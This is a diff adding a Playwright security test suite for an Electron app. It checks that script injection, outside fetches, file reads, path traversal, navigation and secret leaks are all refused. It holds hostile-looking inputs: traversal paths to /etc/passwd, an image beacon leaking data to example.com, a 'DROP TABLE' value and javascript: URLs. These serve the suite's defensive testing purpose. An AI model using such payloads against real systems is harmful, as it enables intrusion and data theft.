@@ -1,0 +1,383 @@
+/** Tries to break every promise of SECURITY.md in the built application. */
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import { callFrom, expect, test } from './fixtures.ts';
+
+const root = path.resolve(import.meta.dirname, '..');
+const built = (folder: string): string[] => {
+  const entries = readdirSync(path.join(root, 'out', folder), { withFileTypes: true, recursive: true });
+  return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
+};
+const error = (code: string): object =>
+  expect.objectContaining({ ok: false, error: expect.objectContaining({ code }) });
+
+/** What each of them does in the page, and what is left of it. */
+const attacks: Record<string, () => unknown> = {
+  // Later, in a task of the page itself: what the debugger evaluates for a test is exempt from the policy.
+  eval: () =>
+    new Promise((resolve, reject) =>
+      setTimeout(() => {
+        try {
+          resolve(globalThis.eval('1 + 1'));
+        } catch (error) {
+          reject(error as Error);
+        }
+      }),
+    ),
+  'new Function': () =>
+    new Promise((resolve, reject) =>
+      setTimeout(() => {
+        try {
+          resolve(new Function('return 2')());
+        } catch (error) {
+          reject(error as Error);
+        }
+      }),
+    ),
+  'an inline script': () => {
+    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.injected = true' }));
+    if ('injected' in window) return 'it ran';
+    throw new Error('it did not run');
+  },
+  'an event handler in HTML': () =>
+    new Promise((resolve, reject) => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.injected = true">');
+      setTimeout(() => {
+        if ('injected' in window) resolve('it ran');
+        else reject(new Error('it did not run'));
+      }, 300);
+    }),
+  'a script in a frame': () =>
+    new Promise((resolve, reject) => {
+      const srcdoc = '<script>parent.injected = true</script>';
+      document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
+      setTimeout(() => {
+        if ('injected' in window) resolve('it ran');
+        else reject(new Error('it did not run'));
+      }, 300);
+    }),
+  'fetch from another machine': () => fetch('https://example.com/'),
+  'fetch from this machine': () => fetch('http://127.0.0.1:9/'),
+  'fetch of a file': () => fetch('file:///etc/passwd'),
+  'a WebSocket': () =>
+    new Promise((resolve, reject) => {
+      const socket = new WebSocket('wss://example.com/');
+      socket.onopen = resolve;
+      socket.onerror = () => {
+        reject(new Error('refused'));
+      };
+    }),
+  'an image from another machine': () =>
+    new Promise((resolve, reject) => {
+      const image = new Image();
+      image.onload = resolve;
+      image.onerror = () => {
+        reject(new Error('refused'));
+      };
+      image.src = 'https://example.com/leak.png?answer=42';
+    }),
+  'a worker from a blob': () =>
+    new Promise((resolve, reject) => {
+      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
+      worker.onmessage = resolve;
+      worker.onerror = () => {
+        reject(new Error('refused'));
+      };
+    }),
+  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
+  'reading the clipboard': () => navigator.clipboard.readText(),
+  'a serial port': () =>
+    (navigator as unknown as { serial: { requestPort: () => Promise<unknown> } }).serial.requestPort(),
+};
+
+test.describe('the page', () => {
+  for (const [name, attack] of Object.entries(attacks)) {
+    test(`cannot use ${name}`, async ({ markscheme }) => {
+      markscheme.expectTrouble(/policy|Content Security Policy|example\.com|127\.0\.0\.1:9|file:\/\/\/etc|blob:/);
+      await expect(markscheme.page.evaluate(attack)).rejects.toThrow();
+    });
+  }
+
+  test('has two functions and nothing of Node or Electron', async ({ markscheme }) => {
+    const found = await markscheme.page.evaluate(() => ({
+      bridge: Object.keys((window as unknown as { markscheme: object }).markscheme),
+      globals: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter(
+        (name) => name in globalThis,
+      ),
+    }));
+    expect(found).toEqual({ bridge: ['call', 'subscribe'], globals: [] });
+  });
+
+  test('runs with a policy that has no unsafe-eval, no blob: and no other origin', async ({ markscheme }) => {
+    const policy = await markscheme.page.evaluate(async () =>
+      (await fetch(location.href)).headers.get('content-security-policy'),
+    );
+    expect(policy).toBe(
+      "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' media: data:; " +
+        "font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; object-src 'none'; frame-src 'none'",
+    );
+  });
+
+  test('stays where it is', async ({ markscheme }) => {
+    markscheme.expectTrouble(/policy|Content Security Policy|example\.com|not allowed|navigat/i);
+    const { page, electron } = markscheme;
+    const before = page.url();
+    const opened = await page.evaluate(() => window.open('https://example.com/') === null);
+    await page.evaluate(() => {
+      for (const target of ['_self', '_blank', '_top']) {
+        const link = Object.assign(document.createElement('a'), { href: 'https://example.com/', target });
+        document.body.append(link);
+        link.click();
+      }
+      const form = Object.assign(document.createElement('form'), { action: 'https://example.com/', method: 'post' });
+      document.body.append(form);
+      form.submit();
+      location.assign('https://example.com/');
+      location.assign('app://markscheme/other.html');
+      location.assign('app://elsewhere/index.html');
+    });
+    await page.waitForTimeout(500);
+    expect(opened).toBe(true);
+    expect(page.url()).toBe(before);
+    expect(await electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
+  });
+
+  test('cannot embed another page or a webview', async ({ markscheme }) => {
+    markscheme.expectTrouble(/policy|Content Security Policy|example\.com/);
+    const { page, electron } = markscheme;
+    await page.evaluate(() => {
+      for (const name of ['iframe', 'webview', 'object', 'embed']) {
+        const element = document.createElement(name);
+        element.setAttribute(name === 'object' ? 'data' : 'src', 'https://example.com/');
+        document.body.append(element);
+      }
+    });
+    await page.waitForTimeout(300);
+    const contents = await electron.evaluate(({ webContents }) =>
+      webContents.getAllWebContents().map((each) => each.getURL()),
+    );
+    expect(contents).toEqual([page.url()]);
+  });
+
+  test('has no permission but to copy', async ({ markscheme }) => {
+    const states = await markscheme.page.evaluate(async () => {
+      const names = [
+        'camera',
+        'microphone',
+        'geolocation',
+        'notifications',
+        'clipboard-read',
+        'clipboard-write',
+        'midi',
+      ];
+      const ask = async (name: string) => [
+        name,
+        (await navigator.permissions.query({ name: name as PermissionName })).state,
+      ];
+      return Object.fromEntries(await Promise.all(names.map(ask))) as Record<string, string>;
+    });
+    expect(
+      Object.entries(states)
+        .filter(([, state]) => state === 'granted')
+        .map(([name]) => name),
+    ).toEqual(['clipboard-write']);
+  });
+});
+
+test.describe('addresses', () => {
+  const inside = ['app://markscheme/', 'app://markscheme/index.html'];
+  const outside = [
+    'app://markscheme/../package.json',
+    'app://markscheme/..%2F..%2Fpackage.json',
+    'app://markscheme/%2e%2e/%2e%2e/package.json',
+    'app://markscheme/..%5c..%5cpackage.json',
+    'app://markscheme//etc/passwd',
+    'app://markscheme/%2Fetc%2Fpasswd',
+    'app://markscheme/assets/../../main/index.cjs',
+    'app://markscheme/index.html%00.png',
+    'app://markscheme/INDEX.HTML',
+  ];
+
+  test('of the page serve listed files and nothing else', async ({ markscheme }) => {
+    markscheme.expectTrouble(/404/);
+    const status = (addresses: string[]) =>
+      markscheme.page.evaluate(
+        (addresses) => Promise.all(addresses.map((address) => fetch(address).then((answer) => answer.status))),
+        addresses,
+      );
+    expect(await status([inside[1] ?? ''])).toEqual([200]);
+    expect(await status(outside)).toEqual(outside.map(() => 404));
+  });
+
+  test('of pictures are hashes and nothing else', async ({ markscheme }) => {
+    markscheme.expectTrouble(/404|ERR_|media:/);
+    const hash = 'a'.repeat(64);
+    const addresses = [
+      `media://image/${hash}`,
+      `media://image/${hash.toUpperCase()}`,
+      `media://image/${hash}/`,
+      `media://image/..%2F${hash}`,
+      'media://image/../../../etc/passwd',
+      'media://image/%2e%2e/%2e%2e/etc/passwd',
+      'media://etc/passwd',
+      'media:///etc/passwd',
+    ];
+    const loaded = await markscheme.page.evaluate(
+      (addresses) =>
+        Promise.all(
+          addresses.map(
+            (address) =>
+              new Promise((resolve) => {
+                const image = new Image();
+                image.onload = () => {
+                  resolve(address);
+                };
+                image.onerror = () => {
+                  resolve(null);
+                };
+                image.src = address;
+              }),
+          ),
+        ),
+      addresses,
+    );
+    expect(loaded.filter((address) => address !== null)).toEqual([]);
+  });
+});
+
+test.describe('calls', () => {
+  test('that do not exist or make no sense are answered, not obeyed', async ({ markscheme }) => {
+    expect(await markscheme.call('no.such.call')).toEqual(error('unknown-call'));
+    expect(await markscheme.call('__proto__')).toEqual(error('unknown-call'));
+    expect(await markscheme.call('constructor')).toEqual(error('unknown-call'));
+    expect(await markscheme.call('items.get', { itemId: 'DROP TABLE items' })).toEqual(error('bad-input'));
+    expect(await markscheme.call('secrets.set', { provider: 'nobody', key: 'x' })).toEqual(error('bad-input'));
+    expect(await markscheme.call('shell.pickFiles', null)).toEqual(error('bad-input'));
+    expect((await markscheme.call('shell.versions')).ok).toBe(true);
+  });
+
+  test('name only files that the user chose', async ({ markscheme }) => {
+    expect(await markscheme.call('import.files', { paths: ['/etc/passwd'] })).toEqual(error('foreign-path'));
+    expect(await markscheme.call('workspace.open', { path: '/etc/passwd' })).toEqual(error('foreign-path'));
+    expect(await markscheme.call('workspace.backup', { path: path.join(markscheme.userData, 'keys.json') })).toEqual(
+      error('foreign-path'),
+    );
+    await markscheme.choose([path.join(root, 'package.json')]);
+    expect((await markscheme.call('shell.pickFiles', { kind: 'import' })).ok).toBe(true);
+    expect(await markscheme.call('import.files', { paths: [path.join(root, 'package.json')] })).not.toEqual(
+      error('foreign-path'),
+    );
+  });
+
+  test('from a frame inside the page, or from a page that is not ours, are refused', async ({ markscheme }) => {
+    const { electron } = markscheme;
+    const answer = await electron.evaluate(async ({ BrowserWindow, app }) => {
+      const ours = BrowserWindow.getAllWindows()[0];
+      const stranger = new BrowserWindow({
+        show: false,
+        webPreferences: { preload: `${app.getAppPath()}/out/preload/index.cjs`, sandbox: true },
+      });
+      const stay = ours?.webContents.getURL() ?? '';
+      await stranger.loadURL(stay);
+      const reply: unknown = await stranger.webContents.executeJavaScript("window.markscheme.call('secrets.list', {})");
+      stranger.destroy();
+      return reply;
+    });
+    expect(answer).toEqual(error('foreign-sender'));
+  });
+
+  test('hand only https addresses to the browser, and only after a question', async ({ markscheme }) => {
+    await markscheme.electron.evaluate(({ dialog, shell }) => {
+      const seen: string[] = [];
+      Object.assign(globalThis, { seen });
+      dialog.showMessageBox = (...args: unknown[]) => {
+        seen.push(`asked ${(args.at(-1) as { detail: string }).detail}`);
+        return Promise.resolve({ response: seen.length > 1 ? 0 : 1, checkboxChecked: false });
+      };
+      shell.openExternal = (address) => {
+        seen.push(`opened ${address}`);
+        return Promise.resolve();
+      };
+    });
+    for (const url of [
+      'javascript:alert(1)',
+      'file:///etc/passwd',
+      'http://example.com/',
+      'https://user:word@example.com/',
+      'x',
+    ]) {
+      expect(await markscheme.call('shell.openExternal', { url })).toEqual(error('not-https'));
+    }
+    const url = 'https://example.com/a?b=c';
+    expect(await markscheme.call('shell.openExternal', { url })).toEqual({ ok: true, value: { opened: false } });
+    expect(await markscheme.call('shell.openExternal', { url })).toEqual({ ok: true, value: { opened: true } });
+    const seen = await markscheme.electron.evaluate(() => (globalThis as unknown as { seen: string[] }).seen);
+    expect(seen).toEqual([`asked ${url}`, `asked ${url}`, `opened ${url}`]);
+  });
+});
+
+test.describe('keys', () => {
+  const key = 'sk-markscheme-test-0123456789abcdef';
+  test.use({ startOptions: { env: { GEMINI_API_KEY: 'AIzaMarkschemeEnvironment0123456789abcdef' } } });
+
+  test('go in and never come out', async ({ markscheme }) => {
+    const { page } = markscheme;
+    const set = await markscheme.call('secrets.set', { provider: 'openai', key });
+    expect(set.ok).toBe(true);
+    const listed = await callFrom(page, 'secrets.list', {});
+    expect(listed).toEqual({
+      ok: true,
+      value: expect.arrayContaining([
+        { provider: 'openai', state: expect.stringMatching(/stored|session/) },
+        { provider: 'gemini', state: 'environment' },
+        { provider: 'anthropic', state: 'none' },
+      ]),
+    });
+    expect(JSON.stringify(listed)).not.toContain(key);
+    await markscheme.electron.close();
+    const files = readdirSync(markscheme.userData, { withFileTypes: true, recursive: true }).filter((entry) =>
+      entry.isFile(),
+    );
+    expect(files.length).toBeGreaterThan(0);
+    for (const file of files) {
+      const bytes = readFileSync(path.join(file.parentPath, file.name));
+      expect(bytes.includes(key), file.name).toBe(false);
+      expect(bytes.includes('AIzaMarkschemeEnvironment'), file.name).toBe(false);
+    }
+  });
+});
+
+test.describe('the build', () => {
+  test('holds nothing of the development server or of a looser policy', () => {
+    for (const file of [...built('main'), ...built('preload')]) {
+      const text = readFileSync(file, 'utf8');
+      expect(text.includes('ELECTRON_RENDERER_URL'), file).toBe(false);
+      expect(text.includes("'unsafe-eval'"), file).toBe(false);
+      expect(/script-src[^;]*'unsafe-inline'|connect-src[^;]*ws:/.test(text), file).toBe(false);
+    }
+  });
+
+  test('has a preload of one file that requires Electron alone', () => {
+    expect(built('preload').map((file) => path.basename(file))).toEqual(['index.cjs']);
+    const required = readFileSync(path.join(root, 'out', 'preload', 'index.cjs'), 'utf8').matchAll(
+      /require\(([^)]*)\)/g,
+    );
+    expect([...required].map((match) => match[1])).toEqual(['"electron"']);
+  });
+
+  test('loads the page with every protection on', async ({ markscheme }) => {
+    const preferences = await markscheme.electron.evaluate(({ webContents }) => {
+      const [page] = webContents.getAllWebContents();
+      return (page as unknown as { getLastWebPreferences: () => Record<string, unknown> }).getLastWebPreferences();
+    });
+    expect(preferences).toMatchObject({
+      nodeIntegration: false,
+      contextIsolation: true,
+      sandbox: true,
+      webviewTag: false,
+      webSecurity: true,
+      allowRunningInsecureContent: false,
+      experimentalFeatures: false,
+    });
+  });
+});
